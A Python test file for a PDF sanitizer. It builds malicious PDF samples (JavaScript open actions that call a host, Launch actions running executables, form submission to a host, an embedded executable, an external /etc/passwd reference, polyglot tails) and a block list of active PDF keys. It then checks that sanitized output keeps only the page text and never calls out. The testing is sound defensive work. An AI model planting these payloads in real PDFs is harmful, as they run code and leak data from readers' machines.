"""PDFs that want to hurt: nothing of them acts, calls or hangs, and each comes to an end with its reason."""

import io
import re
import socket
import threading
from collections.abc import Iterator
from itertools import chain
from random import Random

import pikepdf
import pytest

from tests.people.files.sanitizing.papers import (
    A4,
    FACES,
    HELLO,
    agenda,
    page,
    pdf_of,
    stream,
    words_of,
)
from tests.platform.outside.cages import EACH_CAGE
from yoriai.people.files.sanitizing.reasons import Reason
from yoriai.people.files.sanitizing.sanitize import sanitize
from yoriai.people.files.sanitizing.verdict import Disarmed, Outcome, Withheld
from yoriai.platform.outside.cage.kinds import Cage

pytestmark = pytest.mark.parametrize("cage", EACH_CAGE)

ACTIVE = (
    *(
        "JS",
        "JavaScript",
        "AA",
        "OpenAction",
        "Launch",
        "EmbeddedFile",
        "EmbeddedFiles",
        "XFA",
        "RichMedia",
        "GoToR",
    ),
    *(
        "GoToE",
        "SubmitForm",
        "ImportData",
        "URI",
        "Annots",
        "AcroForm",
        "Names",
        "Metadata",
        "Info",
        "Collection",
    ),
)


def made_of(data: bytes, cage: Cage) -> bytes:
    verdict = sanitize(data, "a.pdf", cage=cage, faces=FACES)
    assert isinstance(verdict, Disarmed), verdict
    return verdict.file.data


def ends(data: bytes, cage: Cage) -> Reason | None:
    verdict = sanitize(data, "a.pdf", cage=cage, faces=FACES)
    return verdict.reason if isinstance(verdict, Withheld) else None


def keys_in(data: bytes) -> set[str]:
    """Every name of the whole file, of keys and of values, as another reader sees it."""
    found = set[str]()
    with pikepdf.open(io.BytesIO(data)) as opened:
        for each in opened.objects:
            found |= set(names_in(each))
        found |= {str(key) for key in opened.trailer.keys()}  # noqa: SIM118 it is no mapping
    return {each.removeprefix("/") for each in found}


def names_in(thing: object) -> Iterator[str]:
    """Its names, and those within it that are no objects of their own."""
    if isinstance(thing, pikepdf.Name):
        yield str(thing)
    elif isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
        yield from thing.keys()
        yield from chain.from_iterable(names_in(each) for each in values_in(thing))
    elif isinstance(thing, pikepdf.Array):
        yield from chain.from_iterable(names_in(each) for each in thing if not is_apart(each))


def values_in(thing: pikepdf.Dictionary | pikepdf.Stream) -> Iterator[object]:
    for key in thing.keys():  # noqa: SIM118 it is no mapping
        if not is_apart(thing[key]):
            yield thing[key]


def is_apart(thing: object) -> bool:
    return bool(getattr(thing, "is_indirect", False))


@pytest.fixture
def canary() -> Iterator[tuple[str, list[object]]]:
    """An address on this machine, and who has called there."""
    called = list[object]()
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0.1)
        over = threading.Event()

        def listen() -> None:
            while not over.is_set():
                try:
                    called.append(listening.accept())
                except TimeoutError:
                    continue

        thread = threading.Thread(target=listen)
        thread.start()
        yield f"127.0.0.1:{listening.getsockname()[1]}", called
        over.set()
        thread.join()


SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('http://HOST/'\\))>>"
ACTS = {
    "on opening": page(catalog=b"/OpenAction" + SCRIPT),
    "on everything": page(HELLO, A4 + b"/AA<</O%b/C%b>>" % (SCRIPT, SCRIPT), catalog=b"/AA<</WC%b>>" % SCRIPT),
    "named scripts": page(catalog=b"/Names<</JavaScript<</Names[(a)%b]>>>>" % SCRIPT),
    "another name for it": page(catalog=b"/Open#41ction<</#53/J#61vaScript/J#53<" + b"http://HOST".hex().encode() + b">>>"),
    "a link": page(HELLO, A4 + b"/Annots[<</Subtype/Link/Rect[0 0 900 900]/A<</S/URI/URI(http://HOST/)>>>>]"),
    "a program": page(catalog=b"/OpenAction<</S/Launch/F(\\\\\\\\HOST\\\\share\\\\a.exe)/Win<</F(calc.exe)>>>>"),
    "another paper": page(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\HOST\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "one within": page(catalog=b"/OpenAction<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"),
    "sending a form": page(catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://HOST/)>>>>/AcroForm<</Fields[]>>"),
    "taking a form in": page(catalog=b"/OpenAction<</S/ImportData/F(http://HOST/a.fdf)>>"),
    "a film": page(HELLO, A4 + b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]"),
    "a file within": page(
        HELLO, A4, stream(b"/Type/EmbeddedFile", b"MZ evil"),
        catalog=b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>",
    ),
    "a form beside the other": page(
        HELLO, A4, stream(b"", b"<xdp:xdp/>"), catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>"
    ),
    "words about it": page(
        HELLO, A4, stream(b"/Type/Metadata/Subtype/XML", b"<x:xmpmeta>secret</x:xmpmeta>"), b"<</Author(secret)>>",
        catalog=b"/Metadata 6 0 R", trailer=b"/Info 7 0 R",
    ),
    "content from elsewhere": page().replace(b"<</Length %d>>" % len(HELLO), b"<</FFilter[]/F(/etc/passwd)/Length %d>>" % len(HELLO)),
    "a picture from elsewhere": page(
        b"/X Do " + HELLO, A4,
        stream(b"/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(http://HOST/)>>", b""),
        resources=b"/XObject<</X 6 0 R>>",
    ),
    "a typeface from elsewhere": page(
        font=b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</FontName/A/Flags 4/FontFile2 6 0 R>>>>"
    ),
}  # fmt: skip


@pytest.mark.req("N76", "R2")
@pytest.mark.parametrize("way", ["plain", "packed"])
@pytest.mark.parametrize("act", ACTS)
def test_nothing_acts_and_nobody_is_called(
    cage: Cage, canary: tuple[str, list[object]], act: str, way: str
) -> None:
    host, called = canary
    data = ACTS[act].replace(b"HOST", host.encode())
    if way == "packed":
        with pikepdf.open(io.BytesIO(data)) as opened:
            again = io.BytesIO()
            opened.save(again, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        data = again.getvalue()
    made = made_of(data, cage)
    assert words_of(made) == ["Helloworld"]
    assert keys_in(made) & set(ACTIVE) == set()
    assert not re.search(rb"/(?:%b)\b" % "|".join(ACTIVE).encode(), made)
    assert [each for each in (b"evil", b"secret", b"127.0.0.1", b"root:") if each in made] == []
    assert called == []


@pytest.mark.req("N76")
def test_what_would_act_is_found_where_it_is(cage: Cage) -> None:
    """So that nothing is found for its absence, and not because nobody looked."""
    found = set[str]().union(*(keys_in(data) for data in ACTS.values()))
    assert set(ACTIVE) - found <= {"Collection"}
    assert keys_in(made_of(page(), cage)) >= {"Type", "Page", "XObject", "Font", "ToUnicode"}


def locked(how: pikepdf.Encryption) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(page())) as opened:
        opened.save(made, encryption=how)
    return made.getvalue()


PACKED = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>"
OTHERWISE = {
    "locked": (lambda: locked(pikepdf.Encryption(owner="o", user="word")), Reason.LOCKED),
    "locked of old": (
        lambda: locked(pikepdf.Encryption(owner="o", user="word", R=3, aes=False, metadata=False)),
        Reason.LOCKED,
    ),
    "restricted": (lambda: locked(pikepdf.Encryption(owner="o")), Reason.RESTRICTED),
    "a portfolio": (
        lambda: page(
            HELLO, A4, stream(b"/Type/EmbeddedFile", b"MZ"), catalog=b"/Collection<</View/D>>" + PACKED
        ),
        Reason.PORTFOLIO,
    ),
    "a form of its own": (
        lambda: page(
            HELLO, A4, stream(b"", b"<x/>"), catalog=b"/NeedsRendering true/AcroForm<</Fields[]/XFA 6 0 R>>"
        ),
        Reason.FORM_OF_ITS_OWN,
    ),
    "nothing": (lambda: b"%PDF-1.7\nnothing", Reason.BROKEN),
    "no pages": (
        lambda: pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>"]),
        Reason.BROKEN,
    ),
    "pages in a ring": (
        lambda: pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 5/Kids[2 0 R 2 0 R]>>"]),
        Reason.BROKEN,
    ),
    "half of it": (lambda: agenda()[: len(agenda()) // 3], Reason.BROKEN),
}


@pytest.mark.req("N76", "FILE-9")
@pytest.mark.parametrize("how", OTHERWISE)
def test_what_cannot_be_shown_as_it_is_is_held_with_its_reason(cage: Cage, how: str) -> None:
    made, reason = OTHERWISE[how]
    assert ends(made(), cage) is reason
    assert reason.holds


@pytest.mark.req("N80")
@pytest.mark.parametrize("tail", [b"PK\x03\x04evil", b"<html><script>evil", b"\xff\xd8\xffevil", b"MZevil"])
def test_of_two_formats_in_one_file_only_the_pages_are_left(cage: Cage, tail: bytes) -> None:
    for data in (page() + tail, page(HELLO, A4, stream(b"", tail)), b"\xef\xbb\xbf\n" + page() + tail):
        made = made_of(data, cage)
        assert words_of(made) == ["Helloworld"]
        assert b"evil" not in made


@pytest.mark.req("N77", "F23")
def test_whatever_is_changed_in_a_paper_it_comes_to_an_end(cage: Cage) -> None:
    seed = "paper 20261127"
    dice = Random(seed)
    for data, times in ((page(), 5), (agenda(), 2), (ACTS["a film"], 5)):
        for _ in range(times):
            changed = bytearray(data)
            for _ in range(dice.randint(1, 30)):
                changed[dice.randrange(9, len(changed))] = dice.randrange(256)
            verdict = sanitize(bytes(changed), "a.pdf", cage=cage, faces=FACES)
            assert verdict.outcome in Outcome, seed
            if isinstance(verdict, Disarmed):
                assert keys_in(verdict.file.data) & set(ACTIVE) == set()
